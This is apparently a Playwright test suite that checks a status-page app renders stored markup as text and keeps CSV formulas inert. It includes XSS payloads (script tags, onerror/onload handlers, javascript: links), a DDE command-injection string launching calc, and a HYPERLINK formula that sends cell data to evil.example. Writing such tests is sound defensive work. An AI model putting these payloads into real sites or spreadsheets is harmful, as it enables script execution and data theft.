import { expect, test, type Browser, type Page } from '@playwright/test';
import { ADMIN_TOKEN, C, anonymous, signedIn, statePath } from './helpers';

/**
 * Stored XSS: markup in a report's title, description and update, and in a component name,
 * is shown as text on every page that shows it (client, staff console, public page, live
 * updates), and in CSV a formula stays text. Checked in Chromium: the text appears literally,
 * no element of the payload exists in the DOM, and no dialog ever opens.
 */

const run = Date.now().toString(36);
const COMPONENT_NAME = `<img src=x onerror=alert('component')> ${run}`;
const TITLE = `<script>alert('title')</script><img src=x onerror=alert('t')> ${run}`;
const DESCRIPTION = `<img src=x onerror=alert('description')>\n"><svg onload=alert('svg')>\n<iframe src=javascript:alert('frame')>`;
const UPDATE = `<a href="javascript:alert('update')">clic</a><b onmouseover=alert('b')>${run}</b>`;
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open ${run}")`;

const state = { key: `xss-${run}`, number: '', formula: '' };

test.beforeAll(async () => {
	const api = await anonymous();
	const component = await api.post(`/api/v1/clients/${C}/components`, {
		headers: ADMIN_TOKEN,
		data: { key: state.key, name: COMPONENT_NAME, kind: 'server', public: true }
	});
	expect(component.status()).toBe(201);
	const filed = await api.post(`/api/v1/clients/${C}/incidents`, {
		headers: ADMIN_TOKEN,
		data: { severity: 'minor', components: [state.key], title: TITLE, description: DESCRIPTION }
	});
	expect(filed.status()).toBe(201);
	state.number = (await filed.json()).number;
	const update = await api.post(`/api/v1/clients/${C}/incidents/${state.number}/updates`, {
		headers: ADMIN_TOKEN,
		data: { message: UPDATE }
	});
	expect(update.status()).toBe(201);
	const formula = await api.post(`/api/v1/clients/${C}/incidents`, {
		headers: ADMIN_TOKEN,
		data: { severity: 'minor', title: FORMULA, description: '@SUM(1+1)*cmd|" /C calc"!A0' }
	});
	expect(formula.status()).toBe(201);
	state.formula = (await formula.json()).number;
	await api.dispose();
});

async function pageAs(browser: Browser, email: string | null) {
	const context = await browser.newContext(email ? { storageState: statePath(email) } : {});
	const page = await context.newPage();
	const dialogs: string[] = [];
	page.on('dialog', (dialog) => {
		dialogs.push(dialog.message());
		void dialog.dismiss();
	});
	return { page, dialogs, close: () => context.close() };
}

/** Nothing of a payload became markup: no element it would create, no handler attribute, no javascript: link. */
async function expectNoInjectedMarkup(page: Page) {
	await expect(
		page.locator('img[src="x"], svg[onload], iframe, [onerror], [onload], [onmouseover]')
	).toHaveCount(0);
	await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
	await expect(page.locator('b', { hasText: run })).toHaveCount(0);
}

test('a report and a component name holding markup show as text on the client pages', async ({
	browser
}) => {
	const { page, dialogs, close } = await pageAs(browser, 'viewer@initech.test');
	await page.goto(`/app/${C}`);
	await expect(
		page.locator(`li[data-key="${state.key}"] [data-testid="component-name"]`)
	).toHaveText(COMPONENT_NAME);
	await expectNoInjectedMarkup(page);

	await page.goto(`/app/${C}/incidents`);
	await expect(page.locator(`tr[data-number="${state.number}"]`)).toContainText(TITLE);
	await expectNoInjectedMarkup(page);

	await page.goto(`/app/${C}/incidents/${state.number}`);
	await expect(page.getByTestId('incident-title')).toHaveText(TITLE);
	for (const line of DESCRIPTION.split('\n'))
		await expect(page.getByTestId('incident-description')).toContainText(line);
	await expect(page.getByTestId('incident-timeline')).toContainText(UPDATE);
	await expectNoInjectedMarkup(page);
	expect(dialogs).toEqual([]);
	await close();
});

test('the same markup shows as text in the staff console and on the public page', async ({
	browser
}) => {
	const staff = await pageAs(browser, 'staff@demo.test');
	await staff.page.goto('/staff/incidents');
	await expect(staff.page.locator(`tr[data-number="${state.number}"]`)).toContainText(TITLE);
	await expectNoInjectedMarkup(staff.page);
	await staff.page.goto(`/staff/incidents/${state.number}`);
	await expect(staff.page.getByText(TITLE, { exact: true }).first()).toBeVisible();
	await expect(staff.page.getByTestId('incident-timeline')).toContainText(UPDATE);
	await expectNoInjectedMarkup(staff.page);
	await staff.page.goto(`/staff/clients/${C}`);
	await expect(staff.page.locator(`tr[data-key="${state.key}"]`).getByLabel('Nom')).toHaveValue(
		COMPONENT_NAME
	);
	await expectNoInjectedMarkup(staff.page);
	await staff.page.goto(`/staff/incidents/new?client=${C}`);
	await expectNoInjectedMarkup(staff.page);
	expect(staff.dialogs).toEqual([]);
	await staff.close();

	const visitor = await pageAs(browser, null);
	await visitor.page.goto('/status');
	await expect(visitor.page.getByTestId('public-components')).toContainText(COMPONENT_NAME);
	await expectNoInjectedMarkup(visitor.page);
	expect(visitor.dialogs).toEqual([]);
	await visitor.close();
});

test('markup arriving live over the socket is inserted as text', async ({ browser }) => {
	const staff = await pageAs(browser, 'staff@demo.test');
	await staff.page.goto('/staff/incidents');
	await expect(staff.page.getByTestId('live-indicator')).toHaveText('En direct');
	const api = await anonymous();
	const live = `<img src=x onerror=alert('live')> live ${run}`;
	const filed = await api.post(`/api/v1/clients/${C}/incidents`, {
		headers: ADMIN_TOKEN,
		data: {
			severity: 'critical',
			components: [state.key],
			title: live,
			description: '<script>alert(1)</script>'
		}
	});
	expect(filed.status()).toBe(201);
	const { number } = await filed.json();
	await expect(staff.page.locator(`tr[data-number="${number}"]`)).toContainText(live);
	await expectNoInjectedMarkup(staff.page);
	expect(staff.dialogs).toEqual([]);
	await staff.close();
	await api.dispose();
});

test('CSV exports keep formulas as text', async () => {
	const viewer = await signedIn('viewer@initech.test');
	const csv = await (await viewer.get(`/app/${C}/incidents/export.csv`)).text();
	expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open ${run}"")"`);
	for (const line of csv.split(/\r?\n/)) expect(line, line).not.toMatch(/(^|,)"?[=+\-@]/);
	await viewer.dispose();
});
